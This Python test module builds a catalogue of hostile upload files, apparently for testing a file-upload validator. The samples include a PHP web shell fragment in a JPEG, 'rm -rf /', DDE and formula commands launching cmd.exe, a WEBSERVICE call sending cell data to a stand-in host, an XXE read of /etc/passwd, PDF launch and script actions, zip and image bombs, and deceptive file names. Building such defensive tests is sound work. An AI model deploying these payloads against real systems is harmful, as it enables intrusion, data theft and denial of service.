# ruff: noqa: E501  a row of the table is a line
"""Hostile files of every kind, made here: what somebody would send to get something past the gate."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial

from PIL import Image, PngImagePlugin

from tests.registry.files import docx, part, pdf, picture, repacked, xlsx, zipped

TYPES, RELS, BODY = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.cookie)</script>"
PAGE = b"<!doctype html><html>" + SCRIPT + b"</html>"


# Pictures


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(side: int) -> bytes:
    """A few bytes that say they are side × side points."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = zlib.compress(b"\x00" * (side // 8 + 1), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", row) + chunk(b"IEND", b"")


def png_saying(words: str) -> bytes:
    out, said = io.BytesIO(), PngImagePlugin.PngInfo()
    said.add_text("Comment", words)
    Image.new("RGB", (9, 9)).save(out, "PNG", pnginfo=said)
    return out.getvalue()


def jpeg_of_passes(count: int) -> bytes:
    """A picture that asks to be drawn over and over: a few bytes for each pass over all of it."""
    out = io.BytesIO()
    Image.new("RGB", (600, 600)).save(out, "JPEG", progressive=True)
    sound = out.getvalue()
    at = sound.rindex(b"\xff\xda")
    return sound[:at] + sound[at:-2] * count + b"\xff\xd9"


# Word and Excel


def with_part(name: str, content: bytes, of: Callable[[], bytes] = docx) -> bytes:
    return repacked(of(), {name: content})


def with_tie(target: str, kind: str, *, outside: bool = True, rels: str = RELS) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    told = part(docx(), RELS).replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
    )
    return repacked(docx(), {RELS: None, rels: told})


def with_type(name: str, type_: str) -> bytes:
    """A part whose declared type says otherwise than its name."""
    told = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'.encode()
    types = part(docx(), TYPES).replace(b"</Types>", told)
    return repacked(docx(), {TYPES: types, name: b"<html><body/></html>"})


def with_field(instruction: str) -> bytes:
    told = f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p><w:sectPr'.encode()
    return repacked(docx(), {BODY: part(docx(), BODY).replace(b"<w:sectPr", told, 1)})


def with_formula(formula: str) -> bytes:
    name = "xl/worksheets/sheet1.xml"
    sheet = part(xlsx(), name).replace(
        b"<sheetData>", f'<sheetData><row r="9"><c r="A9"><f>{formula}</f></c></row>'.encode(), 1
    )
    return repacked(xlsx(), {name: sheet})


def docm() -> bytes:
    types = part(docx(), TYPES).replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return repacked(docx(), {TYPES: types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def with_doctype(head: bytes, name: str = BODY) -> bytes:
    return repacked(docx(), {name: part(docx(), name).replace(b"?>", b"?>" + head, 1)})


def xlsx_of_rows(rows: int) -> bytes:
    """As a system exports it: every row the same, so that it is made quickly."""
    row = b'<row><c t="inlineStr"><is><t>%07d Quang Van Pang</t></is></c><c><v>%d</v></c></row>'
    out, name = io.BytesIO(), "xl/worksheets/sheet1.xml"
    before, _data, after = part(xlsx(), name).partition(b"<sheetData>")
    after = after[after.index(b"</sheetData>") :]
    whole = repacked(xlsx(), {name: None})
    with zipfile.ZipFile(io.BytesIO(whole)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            new.writestr(each, old.read(each))
        with new.open(name, "w") as sheet:
            sheet.write(before + b"<sheetData>")
            for first in range(0, rows, 1000):
                sheet.write(b"".join(row % (n, n * 7919 % 100_003) for n in range(first, first + 1000)))
            sheet.write(after)
    return out.getvalue()


# Zip


def zip_saying(size: int) -> bytes:
    """A Word file whose directory says that one part has so many bytes."""
    raw = bytearray(repacked(docx(), {"word/zzz.xml": b"<x/>"}))
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(raw)


def zip_that_lies() -> bytes:
    """The part is a hundred times longer than the directory says."""
    raw = bytearray(repacked(docx(), {"word/zzz.xml": b"<x>" + b" " * 100_000 + b"</x>"}))
    at = raw.rindex(b"PK\x01\x02")
    raw[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(raw)


def zip_with_a_gap(hidden: bytes) -> bytes:
    """Foreign bytes between the last part and the directory, which says that it stands behind them."""
    sound = docx()
    at, end = sound.index(b"PK\x01\x02"), len(sound) - 22
    moved = bytearray(sound[end:])
    moved[16:20] = struct.pack("<I", at + len(hidden))
    return sound[:at] + hidden + sound[at:end] + bytes(moved)


def nested(depth: int) -> bytes:
    inner = zipped(**{"bomb.txt": b"0" * 1_000_000})
    for _level in range(depth):
        inner = zipped(**{f"{n}.zip": inner for n in range(10)})
    return inner


# PDF


def pdf_of(*objects: bytes, size: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalog."""
    body, places = b"%PDF-1.7\n", []
    for number, held in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = size or b"%d" % (len(objects) + 1)
    return (
        body
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, rows)
        + b"trailer << /Size %s /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(body))
    )


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def pdf_opening(action: bytes) -> bytes:
    """A PDF of a page, and what it does when it is opened."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action
    return pdf_of(catalog, PAGES, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>")


def pdf_linking(address: bytes) -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>" % address
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Annots [4 0 R] >>"
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, link)


def stream(head: bytes, content: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)


def pdf_drawing(content: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """A PDF whose page is drawn by this stream."""
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R /Resources << %s >> >>"
        % resources
    )
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", PAGES, page, content, *more)


def packed(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    orders = b"q Q " * (1 << 18)
    return b"".join(packer.compress(orders) for _ in range(megabytes)) + packer.flush()


def pdf_of_laughs(levels: int) -> bytes:
    """Ten drawings of a drawing of ten drawings …: a few kilobytes that no machine draws to the end."""
    forms = []
    for level in range(levels):
        following = b"/Resources << /XObject << /X %d 0 R >> >>" % (level + 6) if level + 1 < levels else b""
        drawn = b"/X Do " * 10 if following else b"0 0 m 9 9 l S"
        forms.append(stream(b"/Type /XObject /Subtype /Form /BBox [0 0 99 99] " + following, drawn))
    return pdf_drawing(stream(b"", b"/X Do"), *forms, resources=b"/XObject << /X 5 0 R >>")


def pdf_hiding(held: bytes) -> bytes:
    """A packed object that no table lists: a program that mends the file would find it."""
    content = zlib.compress(b"9 0 " + held)
    hidden = b"8 0 obj\n%s\nendobj\n" % stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", content)
    sound = pdf()
    at = sound.index(b"xref\n")
    end = b"startxref\n%d\n%%%%EOF\n"
    return sound[:at] + hidden + sound[at:].replace(end % at, end % (at + len(hidden)))


FIELD = (
    b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:fldSimple w:instr="DDE x"/></w:hdr>'
)
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
BIG_PICTURE = (
    b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
)

Made = Callable[[], bytes]
# What it is → how it is made, under which name it comes, what the sender is told.
HOSTILE: dict[str, tuple[Made, str, str]] = {
    # nothing, or not what is taken
    "no byte": (lambda: b"", "x.pdf", "Tệp rỗng"),
    "EICAR": (lambda: EICAR, "x.pdf", "Chỉ nhận PDF"),
    "web page": (lambda: PAGE, "x.pdf", "trang web"),
    "web page in UTF-16": (lambda: PAGE.decode().encode("utf-16"), "x.pdf", "trang web"),
    "SVG with script": (lambda: b"<svg onload='x()'>" + SCRIPT + b"</svg>", "x.png", "SVG"),
    "web archive": (lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related", "x.docx", "trang web"),
    "mail": (lambda: b"From: a@b.vn\nSubject: x", "x.docx", "trang web"),
    "program": (lambda: b"MZ\x90" + b"\x00" * 99, "x.pdf", "chương trình"),
    "program of Linux": (lambda: b"\x7fELF" + b"\x00" * 99, "x.png", "chương trình"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /", "x.docx", "chương trình"),
    "shortcut": (lambda: b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, "x.pdf", "chương trình"),
    "Java class": (lambda: b"\xca\xfe\xba\xbe" + b"\x00" * 60, "x.pdf", "chương trình"),
    "old Word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 999, "x.docx", "đời cũ"),
    "RTF": (lambda: rb"{\rtf1{\object\objdata 0105}}", "x.docx", "RTF"),
    "RTF cut to deceive": (lambda: rb"{\rt\object\objocx", "x.docx", "RTF"),
    "RAR": (lambda: b"Rar!\x1a\x07\x00", "x.docx", "Giải nén"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c", "x.docx", "Giải nén"),
    "gzip": (lambda: b"\x1f\x8b\x08" + b"\x00" * 30, "x.docx", "Giải nén"),
    "zip of nothing": (lambda: b"PK\x05\x06" + b"\x00" * 18, "x.docx", "Giải nén"),
    "HEIC": (lambda: b"\x00\x00\x00\x18ftypheic" + b"\x00" * 60, "x.jpg", "HEIC"),
    "film": (lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 60, "x.jpg", "phim"),
    "CSV": (lambda: b"=cmd|'/c calc'!A0,1", "x.xlsx", "Chỉ nhận PDF"),
    # names
    "PDF called exe": (pdf, "Báo cáo.pdf.exe", "nội dung là .pdf"),
    "PDF called exe in full width": (pdf, "Báo cáo．exe", "nội dung là .pdf"),
    "PDF called exe with a dot behind": (pdf, "x.exe.", "nội dung là .pdf"),
    "Word called PDF": (docx, "x.pdf", "nội dung là .docx"),
    "name read backwards": (pdf, "x\u202efdp.exe", "ký tự ẩn"),
    "name with a NUL": (pdf, "x.pdf\x00.exe", "ký tự ẩn"),
    "name with a soft hyphen": (pdf, "x\u00ad.pdf", "ký tự ẩn"),
    "name of a device": (pdf, "CON", "tên riêng của máy"),
    "name of a device with an ending": (pdf, "aux .pdf", "tên riêng của máy"),
    "name of a device in superscript": (pdf, "COM¹.pdf", "tên riêng của máy"),
    "name of a stream": (pdf, "x.pdf:hidden", "không hợp lệ"),
    "hidden file": (pdf, ".htaccess", "không hợp lệ"),
    "long name": (pdf, "a" * 300 + ".pdf", "quá dài"),
    "long name of two-byte letters": (pdf, "ẵ" * 100 + ".pdf", "quá dài"),
    # two formats in one file
    "GIF and page": (lambda: b"GIF89a/*" + PAGE, "x.png", "trang web"),
    "PDF behind a page": (lambda: PAGE + pdf(), "x.pdf", "trang web"),
    "PDF behind a GIF": (lambda: b"\x00GIF" + pdf(), "x.pdf", "ghép ở đầu"),
    "PDF and zip": (lambda: pdf() + zipped(a=b"x"), "x.pdf", "ghép ở cuối"),
    "PDF and page": (lambda: pdf() + PAGE, "x.pdf", "ghép ở cuối"),
    "Word and JAR": (partial(with_part, "META-INF/MANIFEST.MF", b"Main-Class: X"), "x.docx", "phần lạ"),
    "Word behind a JAR": (lambda: zipped(a=b"x") + docx(), "x.docx", "ghép vào trước hoặc sau"),
    "Word and PDF": (lambda: docx() + pdf(), "x.docx", "ghép vào"),
    "page between the parts of a Word file": (partial(zip_with_a_gap, PAGE), "x.docx", "ghép vào"),
    "PNG and page": (lambda: picture() + PAGE, "x.png", "ghép vào"),
    "PNG and zip": (lambda: picture() + zipped(a=b"x"), "x.png", "ghép vào"),
    "JPEG and PHP": (lambda: picture("JPEG") + b"<?php system($_GET[1]) ?>", "x.jpg", "ghép vào"),
    "PNG that says a page": (partial(png_saying, PAGE.decode()), "x.png", "ghép vào"),
    # pictures
    "PNG of 30000²": (partial(png_bomb, 30_000), "x.png", "quá"),
    "PNG of 13000²": (partial(png_bomb, 13_000), "x.png", "quá mức 50 triệu"),
    "JPEG of 5000 passes": (partial(jpeg_of_passes, 5000), "x.jpg", "bất thường"),
    "PNG cut short": (lambda: picture()[:-20], "x.png", "ghép vào"),
    "JPEG cut short": (lambda: picture("JPEG", (400, 400))[:300], "x.jpg", "hỏng"),
    # Word and Excel: what runs
    "docm called docx": (docm, "x.docx", "macro"),
    "macro": (partial(with_part, "word/vbaProject.bin", b"x"), "x.docx", "macro"),
    "macro of Excel 4": (partial(with_part, "xl/macrosheets/sheet1.xml", b"<x/>", xlsx), "x.xlsx", "macro"),
    "dialog of Excel 5": (partial(with_part, "xl/dialogsheets/sheet1.xml", b"<x/>", xlsx), "x.xlsx", "macro"),
    "control": (partial(with_part, "word/activeX/activeX1.xml", b"<x/>"), "x.docx", "macro"),
    "object": (partial(with_part, "word/embeddings/oleObject1.bin", b"x"), "x.docx", "macro"),
    "object called a picture": (partial(with_part, "word/media/a.png", b"\xd0\xcf\x11\xe0"), "x.docx", "macro"),
    "program called a picture": (partial(with_part, "word/media/a.emf", b"MZ\x90"), "x.docx", "macro"),
    "docm behind a chart": (partial(with_part, "word/embeddings/a.xlsx", docm()), "x.docx", "macro"),
    "add-in": (partial(with_part, "word/webextensions/taskpanes.xml", b"<x/>"), "x.docx", "macro"),
    "page called a part": (partial(with_type, "word/a.xml", "text/html"), "x.docx", "phần lạ"),
    "RTF called a part": (partial(with_type, "word/a.xml", "application/rtf"), "x.docx", "phần lạ"),
    "web archive in a Word file": (partial(with_part, "word/a.mht", b"x"), "x.docx", "phần lạ"),
    "drawing with script": (partial(with_part, "word/media/a.svg", b"<svg onload='x'/>"), "x.docx", "phần lạ"),
    "field that starts a program": (partial(with_field, "DDEAUTO c:\\cmd.exe"), "x.docx", "trường tự lấy"),
    "field in a part of odd case": (partial(with_part, "word/Header9.XML", FIELD), "x.docx", "trường tự lấy"),
    "field with a script": (partial(with_field, "HYPERLINK javascript:x()"), "x.docx", "liên kết tới tệp khác"),
    "formula that starts a program": (partial(with_formula, "cmd|'/C calc'!A0"), "x.xlsx", "công thức"),
    "formula that asks a server": (partial(with_formula, 'WEBSERVICE("http://a.b/"&amp;A1)'), "x.xlsx", "công thức"),
    "DDE link": (
        partial(with_part, "xl/externalLinks/a.xml", b'<e><ddeLink ddeService="cmd"/></e>', xlsx),
        "x.xlsx", "công thức"),
    "connection to a database": (partial(with_part, "xl/connections.xml", b"<x/>", xlsx), "x.xlsx", "nguồn dữ liệu"),
    # Word and Excel: ties to the outside
    "template from a server": (partial(with_tie, "http://a.b/t.dotm", "attachedTemplate"), "x.docx", "liên kết tới"),
    "template, ending of odd case": (
        partial(with_tie, "http://a.b/t.dotm", "attachedTemplate", rels="word/_rels/document.xml.RELS"),
        "x.docx", "liên kết tới"),
    "picture from a server": (partial(with_tie, "\\\\a\\b.png", "image"), "x.docx", "liên kết tới"),
    "page within": (partial(with_tie, "a.xml", "aFChunk", outside=False), "x.docx", "liên kết tới"),
    "script behind a link": (partial(with_tie, "javascript:x()", "hyperlink"), "x.docx", "liên kết tới"),
    "program behind a link": (partial(with_tie, "file:///c:/x.exe", "hyperlink"), "x.docx", "liên kết tới"),
    "entity of a file": (
        partial(with_doctype, b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), "x.docx", "DOCTYPE"),
    "billion laughs": (partial(with_doctype, b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'), "x.docx", "DOCTYPE"),
    "entity in a drawing": (
        partial(with_part, "word/media/a.svg", b'<!DOCTYPE svg [<!ENTITY a SYSTEM "x">]><svg/>'),
        "x.docx", "DOCTYPE"),
    # Word and Excel: bombs and torn packages
    "zip of a file": (lambda: zipped(a=EICAR), "x.docx", "(.zip)"),
    "zip bomb": (partial(with_part, "word/a.xml", b" " * 30_000_000), "x.docx", "quá lớn"),
    "zips in zips": (partial(nested, 2), "x.docx", "(.zip)"),
    "zips in a Word file": (lambda: with_part("word/embeddings/a.zip", nested(1)), "x.docx", "macro"),
    "a Word file within itself": (lambda: with_part("word/embeddings/a.docx", docx()), "x.docx", "macro"),
    "a part said to have 4 GB": (partial(zip_saying, 2**32 - 2), "x.docx", "quá lớn"),
    "a part longer than it says": (zip_that_lies, "x.docx", "hỏng"),
    "Word cut short": (lambda: docx()[:-60], "x.docx", "hỏng"),
    "Excel of 200,000 rows": (partial(xlsx_of_rows, 200_000), "x.xlsx", "hơn 50.000 dòng"),
    # PDF
    "PDF with a script": (partial(pdf_opening, b"<< /S /JavaScript /JS (x) >>"), "x.pdf", "mã lệnh"),
    "PDF with a script in disguise": (partial(pdf_opening, b"<< /S /J#61vaScript >>"), "x.pdf", "mã lệnh"),
    "PDF that starts a program": (partial(pdf_opening, LAUNCH), "x.pdf", "mã lệnh"),
    "PDF that opens another": (partial(pdf_opening, b"<< /S /GoToR /F (\\\\\\\\a\\\\b) >>"), "x.pdf", "mã lệnh"),
    "PDF that calls home": (partial(pdf_opening, b"<< /S /URI /URI (http://a.b) >>"), "x.pdf", "mã lệnh"),
    "PDF with a script behind a link": (partial(pdf_linking, b"javascript:x"), "x.pdf", "mã lệnh"),
    "PDF with a server behind a link": (partial(pdf_linking, b"\\\\\\\\a\\\\b"), "x.pdf", "mã lệnh"),
    "PDF with a file in it": (lambda: pdf(shape=lambda w: w.add_attachment("x", b"MZ")), "x.pdf", "tệp nhúng"),
    "PDF whose content is elsewhere": (
        partial(pdf_drawing, stream(b"/F (c:/windows/win.ini)", b"")), "x.pdf", "tệp khác"),
    "PDF that hides a script": (partial(pdf_hiding, b"<< /S /JavaScript >>"), "x.pdf", "mã lệnh"),
    "locked PDF": (lambda: pdf(shape=lambda w: w.encrypt("x", algorithm="RC4-128")), "x.pdf", "khóa"),
    "PDF that unpacks to 300 MB": (
        lambda: pdf_drawing(stream(b"/Filter /FlateDecode", packed(300))), "x.pdf", "quá phức tạp"),
    "PDF packed twice": (
        lambda: pdf_drawing(stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(packed(1)))),
        "x.pdf", "quá phức tạp"),
    "PDF with a picture of 40000²": (
        lambda: pdf_drawing(stream(b"", b""), stream(BIG_PICTURE, b"")), "x.pdf", "quá phức tạp"),
    "PDF of drawings in drawings": (partial(pdf_of_laughs, 30), "x.pdf", "quá phức tạp"),
    "PDF cut short": (lambda: pdf()[:-10], "x.pdf", "tải lên chưa hết"),
    "PDF of nothing": (lambda: b"%PDF-1.7\n%%EOF", "x.pdf", "hỏng"),
}  # fmt: skip
